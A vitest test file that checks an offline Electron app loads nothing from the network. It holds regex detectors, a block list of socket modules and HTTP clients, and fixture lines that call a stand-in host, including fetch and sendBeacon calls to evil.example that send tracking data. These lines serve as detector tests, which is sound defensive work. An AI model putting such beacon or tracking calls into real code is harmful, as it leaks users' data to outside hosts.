// Issue 7: the app works offline and loads nothing from the network. Two checks:
// 1. The built renderer (out/renderer: every .js, .css and .html) holds no remote URL in a place
//    that loads it: fetch/XMLHttpRequest/import()/WebSocket/EventSource/sendBeacon/Worker calls,
//    src=/href= in HTML, url() and @import in CSS, and no string literal that is a whole remote URL
//    except the harmless ones in ALLOWED_LITERALS (XML namespaces, schema ids, parsing bases).
//    URLs inside longer strings (license comments, documentation links in error messages) are text,
//    never loaded, and are not flagged. Build first: npx electron-vite build --logLevel warn
// 2. No network client in db/ or electron/: the only socket is the browser-mode server, which
//    listens on 127.0.0.1.
import { existsSync, readFileSync, readdirSync, statSync } from 'node:fs'
import { extname, join, relative } from 'node:path'
import { describe, expect, it } from 'vitest'

const ROOT = join(__dirname, '..', '..')
const RENDERER = join(ROOT, 'out', 'renderer')

function walk(dir: string, keep: (file: string) => boolean): string[] {
  const files: string[] = []
  for (const name of readdirSync(dir)) {
    const path = join(dir, name)
    if (statSync(path).isDirectory()) {
      if (name !== 'node_modules') files.push(...walk(path, keep))
    } else if (keep(path)) files.push(path)
  }
  return files
}

/**
 * Whole-string remote URLs that are allowed in the bundle, each with why it never loads anything.
 * Compared exactly (after the quotes are removed).
 */
const ALLOWED_LITERALS: Record<string, string> = {
  // XML namespaces: identifiers React and echarts pass to createElementNS/setAttributeNS.
  'http://www.w3.org/2000/svg': 'SVG namespace',
  'http://www.w3.org/1999/xlink': 'XLink namespace',
  'http://www.w3.org/XML/1998/namespace': 'XML namespace',
  'http://www.w3.org/1998/Math/MathML': 'MathML namespace',
  'http://www.w3.org/1999/xhtml': 'XHTML namespace',
  // JSON Schema dialect ids written into schemas by zod's toJSONSchema: identifiers, not fetched.
  'https://json-schema.org/draft/2020-12/schema': 'JSON Schema id',
  'http://json-schema.org/draft-07/schema#': 'JSON Schema id',
  'http://json-schema.org/draft-04/schema#': 'JSON Schema id',
  // The prefix of React's minified-error links, shown in console messages.
  'https://react.dev/errors/': 'React error documentation link',
  // A base for new URL(relative, base) (react-router, history): parsing only.
  'http://localhost': 'URL parsing base',
  // zod's IPv6 check parses `http://[${value}]`; and a placeholder in a message.
  'http://[${value}]': 'zod IPv6 parsing',
  'http://[...]': 'placeholder text',
  // A test value inside a URL-sanitising helper (the newline is the point).
  'https://exa\\nmple.com': 'sanitiser example',
}

const REMOTE = String.raw`(?:https?|wss?):\/\/|\/\/[a-z0-9-]+(?:\.[a-z0-9-]+)+`

/** Calls that load what they are given. */
const LOADING_CALL = new RegExp(
  String.raw`(?:\bfetch|\bimport|\bimportScripts|\bsendBeacon|new\s+(?:WebSocket|EventSource|Worker|SharedWorker|Image)|\.open)\s*\(\s*(?:["'\x60]|[^)]{0,40}?,\s*["'\x60])(?:${REMOTE})`,
  'gi',
)
const WHOLE_LITERAL = /(["'`])((?:https?|wss?):\/\/[^"'`\s]*)\1/g
const PROTOCOL_RELATIVE_LITERAL = /(["'`])(\/\/[a-z0-9-]+(?:\.[a-z0-9-]+)+(?:[/:?#][^"'`]*)?)\1/gi
const ASSIGNED_SRC = new RegExp(String.raw`\.(?:src|href|action|data)\s*=\s*["'\x60](?:${REMOTE})`, 'gi')
const HTML_ATTR = new RegExp(String.raw`\b(?:src|href|srcset|action|data|poster|background|manifest)\s*=\s*["']?\s*(?:${REMOTE})`, 'gi')
// url( of CSS, not JavaScript's `new URL(…)` (a parser, it loads nothing).
const CSS_REMOTE = new RegExp(String.raw`(?<![\w$.]|new\s{1,5})url\(\s*["']?\s*(?:${REMOTE})|@import\s+(?:url\()?\s*["']?\s*(?:${REMOTE})`, 'gi')

const around = (text: string, index: number) => text.slice(Math.max(0, index - 60), index + 100).replace(/\s+/g, ' ')

function remoteLoads(file: string, text: string): string[] {
  const found: string[] = []
  const where = relative(ROOT, file)
  const flag = (pattern: RegExp, what: string) => {
    for (const match of text.matchAll(pattern)) found.push(`${where}: ${what}: …${around(text, match.index)}…`)
  }
  switch (extname(file)) {
    case '.js':
    case '.mjs':
    case '.cjs':
      flag(LOADING_CALL, 'loading call with a remote URL')
      flag(ASSIGNED_SRC, 'remote URL assigned to src/href')
      flag(HTML_ATTR, 'remote URL in HTML markup')
      flag(CSS_REMOTE, 'remote URL in CSS')
      for (const match of text.matchAll(WHOLE_LITERAL)) {
        // the minified renderer renames a template's variables: `${e}` is the same literal as `${value}`
        if (!Object.hasOwn(ALLOWED_LITERALS, match[2]!.replace(/\$\{[\w$]+\}/g, '${value}'))) found.push(`${where}: remote URL literal ${match[0]} (add it to ALLOWED_LITERALS only if it never loads)`)
      }
      for (const match of text.matchAll(PROTOCOL_RELATIVE_LITERAL)) found.push(`${where}: protocol-relative URL literal ${match[0]}`)
      break
    case '.css':
      flag(CSS_REMOTE, 'remote URL in CSS')
      break
    case '.html':
      flag(HTML_ATTR, 'remote URL in an attribute')
      flag(CSS_REMOTE, 'remote URL in inline CSS')
      flag(LOADING_CALL, 'loading call with a remote URL')
      break
  }
  return found
}

describe('the built renderer loads nothing remote', () => {
  it('out/renderer exists (build it first)', () => {
    expect(
      existsSync(join(RENDERER, 'index.html')),
      'out/renderer/index.html is missing: run `npx electron-vite build --logLevel warn` before this test',
    ).toBe(true)
  })

  it.runIf(existsSync(join(RENDERER, 'index.html')))('no .js, .css or .html file references a remote URL where it would load', () => {
    const files = walk(RENDERER, (file) => ['.js', '.mjs', '.cjs', '.css', '.html'].includes(extname(file)))
    expect(files.some((file) => file.endsWith('.js'))).toBe(true)
    const found = files.flatMap((file) => remoteLoads(file, readFileSync(file, 'utf8')))
    expect(found).toEqual([])
  })

  it('the detector itself catches what it must (so an empty result means something)', () => {
    const bad = [
      ['x.js', 'fetch("https://evil.example/track")'],
      ['x.js', "fetch('//evil.example/t')"],
      ['x.js', 'xhr.open("GET", "https://evil.example/")'],
      ['x.js', 'import("https://cdn.example/mod.js")'],
      ['x.js', 'new WebSocket("wss://evil.example/")'],
      ['x.js', 'navigator.sendBeacon("https://evil.example/b", data)'],
      ['x.js', 'img.src = "https://evil.example/pixel.gif"'],
      ['x.js', 'const u = "https://api.example.com/v1"'],
      ['x.js', 'el.innerHTML = `<img src="https://evil.example/x.png">`'],
      ['x.css', '.a { background: url(https://fonts.example/x.woff2) }'],
      ['x.css', '@import url("https://fonts.googleapis.com/css?family=Roboto");'],
      ['x.css', ".a { background: url('//cdn.example/x.png') }"],
      ['x.html', '<script src="https://cdn.example/react.js"></script>'],
      ['x.html', '<link rel="stylesheet" href="//cdn.example/a.css">'],
    ] as const
    for (const [file, text] of bad) expect(remoteLoads(file, text), text).not.toEqual([])
    const harmless = [
      ['x.js', 'document.createElementNS("http://www.w3.org/2000/svg", "svg")'],
      ['x.js', '/*! license: see https://github.com/x/y/blob/main/LICENSE */'],
      ['x.js', 'throw new Error("Minified React error; visit https://react.dev/errors/" + code)'],
      ['x.js', 'fetch("/api/app-info", { method: "POST" })'],
      ['x.js', 'const re = /^https?:\\/\\//'],
      ['x.js', 'var base = new URL(href, "http://localhost")'],
      ['x.html', '<script type="module" src="./assets/index.js"></script><link rel="icon" href="data:,">'],
      ['x.css', '.a { background: url(data:image/png;base64,AAAA) } .b { background: url(./x.png) }'],
    ] as const
    for (const [file, text] of harmless) expect(remoteLoads(file, text), text).toEqual([])
  })
})

describe('no network client in the backend or the shells', () => {
  const sources = ['db', 'electron'].flatMap((dir) =>
    walk(join(ROOT, dir), (file) => /\.(ts|tsx|js|mjs|cjs)$/.test(file) && !/\.test\.ts$|\.fixtures?\.ts$/.test(file)),
  )

  /** The loopback browser-mode server is the one file allowed a socket (and it is checked below). */
  const SERVER = join('electron', 'server', 'web-server.ts')
  /** The one updater: it asks only the update server an office configures, and nothing when none is (issue 16). */
  const UPDATER = join('electron', 'main', 'updater.ts')

  const FORBIDDEN: [RegExp, string][] = [
    [/\bfetch\s*\(/, 'fetch()'],
    [/from\s+['"](?:node:)?https['"]|require\(\s*['"](?:node:)?https['"]\s*\)/, 'the https module'],
    [/\bhttps\.(?:request|get)\s*\(/, 'https.request/get'],
    [/\bhttp\.(?:request|get)\s*\(|\bimport\s*\{[^}]*\b(?:request|get)\b[^}]*\}\s*from\s+['"](?:node:)?http['"]/, 'http.request/get'],
    [/from\s+['"](?:node:)?(?:net|tls|dgram|http2)['"]|require\(\s*['"](?:node:)?(?:net|tls|dgram|http2)['"]\s*\)/, 'a socket module (net, tls, dgram, http2)'],
    [/\bnew\s+(?:WebSocket|EventSource|XMLHttpRequest)\b/, 'WebSocket/EventSource/XMLHttpRequest'],
    [/\bnet\.(?:request|fetch)\s*\(|\bsession\.fetch\s*\(|\bautoUpdater\b/, "Electron's net, session.fetch or autoUpdater"],
    [/from\s+['"](?:axios|got|node-fetch|undici|ky|superagent|request)['"]/, 'an HTTP client library'],
  ]

  /** What runs: comments may name what the code must not call ("the page reads it with fetch()"),
   * and type-only imports (`import type …`, `import { type AddressInfo } …`) load no module. */
  const runtimeCode = (text: string) =>
    text
      .replace(/\/\*[\s\S]*?\*\//g, '')
      .replace(/(^|\s)\/\/.*$/gm, '$1')
      .replace(/^import\s+type\s[^;\n]*?from\s+['"][^'"]+['"]/gm, '')
      .replace(/^import\s*\{([^}]*)\}\s*from\s+['"][^'"]+['"]/gm, (statement, names: string) =>
        names.split(',').every((name) => name.trim() === '' || name.trim().startsWith('type ')) ? '' : statement,
      )

  it('finds the sources', () => {
    expect(sources.length).toBeGreaterThan(20)
    expect(sources.map((file) => relative(ROOT, file))).toContain(SERVER)
  })

  it('uses no HTTP client, socket or updater outside the loopback server', () => {
    const found: string[] = []
    for (const file of sources) {
      const path = relative(ROOT, file)
      const text = runtimeCode(readFileSync(file, 'utf8'))
      for (const [pattern, what] of FORBIDDEN) {
        if (path === SERVER && what === 'http.request/get') continue
        if (path === UPDATER && what === "Electron's net, session.fetch or autoUpdater") continue
        if (pattern.test(text)) found.push(`${path}: ${what}`)
      }
      if (path !== SERVER && /from\s+['"](?:node:)?http['"]|require\(\s*['"](?:node:)?http['"]\s*\)/.test(text)) found.push(`${path}: the http module`)
    }
    expect(found).toEqual([])
  })

  it('the browser-mode server only listens on 127.0.0.1 and makes no outgoing requests', () => {
    const text = readFileSync(join(ROOT, SERVER), 'utf8')
    expect(text).toMatch(/\.listen\([^)]*'127\.0\.0\.1'/)
    expect(text).not.toMatch(/\.listen\([^)]*(?:'0\.0\.0\.0'|'::'|\bhost\b)/)
    const httpImport = /import\s*\{([^}]*)\}\s*from\s+['"]node:http['"]/.exec(text)
    expect(httpImport?.[1]).not.toMatch(/\b(?:request|get|Agent)\b/)
  })

  it('opens external links only through the list of links the app itself builds', () => {
    for (const file of sources) {
      const text = readFileSync(file, 'utf8')
      for (const line of text.split('\n').filter((l) => /openExternal\(/.test(l))) expect(line, relative(ROOT, file)).toMatch(/isAppExternalLink\(/)
    }
  })
})
